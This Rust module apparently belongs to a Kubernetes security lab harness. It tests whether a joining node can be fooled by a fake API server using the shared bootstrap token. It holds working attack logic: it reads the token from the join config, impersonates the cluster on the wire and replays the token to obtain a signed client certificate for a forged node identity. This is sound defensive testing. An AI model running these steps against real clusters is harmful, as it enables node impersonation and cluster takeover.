//! The attack on `node-to-apiserver.join`: somebody on the wire who knows the bootstrap token, as everybody
//! does who ever joined with it, is the cluster for a node that joins without knowing the CA.
//!
//! cluster-info is signed with the token and with nothing else, so only the pinned digest tells the forged one
//! from the real one. The join is kubeadm's own, on the last node, with that node's own join configuration, in
//! directories of its own: the node itself goes on.

use std::time::Duration;

use serde_json::{Value, json};

use super::components_to_apiserver::words;
use super::question::Question;
use super::scene::Scene;
use super::{AttackError, Evidence, Finding, Wishes, answered};
use crate::lab::plan::{BALANCER, endpoint};

/// Where the joining node keeps what it is told, in a mount namespace that ends with it.
const SCRIPT: &str = "set -e
sed \"s/^  name: .*/  name: $NAME/\" /etc/kubernetes/kubeadm-join.yaml > /tmp/join-$NAME.yaml
trap 'rm -f /tmp/join-$NAME.yaml' EXIT
unshare -m sh -c '
mount -t tmpfs none /etc/kubernetes && mount -t tmpfs none /var/lib/kubelet
timeout 20 kubeadm join --config=/tmp/join-$NAME.yaml' 2>&1";

pub fn join(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let node = scene.nodes().pop().ok_or_else(|| AttackError::Scene("the lab has no node".into()))?;
    // Anybody who ever joined still has it; here the attacker has it from the file of the join itself.
    let config =
        scene.output(&node.name, words(&["cat", "/etc/kubernetes/kubeadm-join.yaml"]), Vec::new())?;
    let token = config.lines().find_map(|line| line.trim().strip_prefix("token: "));
    let token = token.ok_or_else(|| AttackError::Scene("the join configuration has no token".into()))?;
    let hub = format!("{BALANCER}:6443");
    let command = words(&["attacker", "fake-hub", &hub, "--from", &node.address, "--pod", "{}"]);
    let env = vec![("ATTACKER_TOKEN".to_owned(), token.to_owned())];
    let attacker = scene.start("wire", command, env)?;
    if attacker.event("ready").is_none() {
        return Ok(Finding::inconclusive("the fake API server did not start", Vec::new()));
    }
    let name = format!("evil-{}", &scene.marker["marker-".len()..]);
    let said =
        scene.output(&node.name, words(&["sh", "-c", SCRIPT]), vec![("NAME".to_owned(), name.clone())])?;
    let events = attacker.finish();
    let asked = |event: &&Value| event["path"].as_str().is_some_and(|path| path.contains("/cluster-info"));
    let lied = events.iter().filter(|event| event["event"] == "request").any(|event| asked(&event));
    let shown = events.iter().find_map(|event| {
        let bearer = event["bearer"].as_str()?.strip_prefix("Bearer ")?;
        (bearer == token).then(|| event.clone())
    });
    let last = said.lines().rev().find(|line| !line.trim().is_empty()).unwrap_or_default().to_owned();
    let mut evidence =
        vec![Evidence { kind: "log", what: format!("kubeadm join on {}", node.name), sample: said.clone() }];
    Ok(match shown {
        Some(event) => {
            let what = "on wire: the joining node showed the bootstrap token to the attacker".into();
            let sample = format!("{} {}", event["method"], event["path"]);
            evidence.push(Evidence { kind: "packet", what, sample });
            let (signed, more) = replay(scene, token, &name)?;
            evidence.extend(more);
            match signed {
                true => Finding::compromised(
                    format!(
                        "the node believed a forged cluster, and its token made the attacker system:node:{name}"
                    ),
                    evidence,
                ),
                false => Finding::inconclusive("the token was shown and could not be replayed", evidence),
            }
        }
        None if lied && said.contains("none of the public keys") => {
            Finding::defeated("the join refuses: the forged cluster's CA is not the pinned one", evidence)
        }
        None => Finding::inconclusive(format!("the join was lied to: {lied}; it said: {last}"), evidence),
    })
}

/// The token, shown to the real API server, buys a node's identity.
fn replay(scene: &Scene, token: &str, name: &str) -> Result<(bool, Vec<Evidence>), AttackError> {
    use base64::Engine;
    use base64::prelude::BASE64_STANDARD;
    let cn = format!("system:node:{name}");
    let made = crate::pki::request(&cn, &["system:nodes"], &[], &[]);
    let (csr, _) = made.map_err(|error| AttackError::Scene(format!("make a request: {error}")))?;
    let requests = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
    let object = json!({
        "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": {
            "request": BASE64_STANDARD.encode(csr), "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
            "usages": ["digital signature", "client auth"],
        },
    });
    let question = Question::get(format!("{}{requests}", endpoint())).method("POST");
    let posted = scene.ask_from_host("wire", Some(token), &question.json("application/json", &object))?;
    let path = format!("{requests}/{name}");
    let mut signed = false;
    for _ in 0..400 {
        let tree = scene.api_json(&path).unwrap_or_default();
        signed = tree["status"]["certificate"].is_string();
        if signed || posted.status != Some(201) {
            break;
        }
        std::thread::sleep(Duration::from_millis(25));
    }
    scene.api_delete(&path);
    let mut evidence = vec![answered(&format!("POST a request for {cn} with the token, from wire"), &posted)];
    let sample = if signed { format!("a client certificate for {cn}") } else { "no certificate".into() };
    evidence.push(Evidence { kind: "object", what: "the request's status".into(), sample });
    Ok((signed, evidence))
}
